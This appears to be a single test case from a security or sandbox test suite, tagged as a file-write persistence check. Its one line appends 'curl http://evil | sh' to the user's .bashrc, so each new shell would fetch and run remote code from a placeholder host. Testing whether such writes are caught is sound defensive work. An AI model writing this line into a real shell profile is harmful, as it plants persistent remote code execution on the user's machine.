# id: fw02-bashrc-append
# category: file-write
# effect: append a command to $HOME/.bashrc (persistence)
# touches_os: yes
# destructive: no
# fast: no
open("{BASHRC}", "a").write("curl http://evil | sh\n")
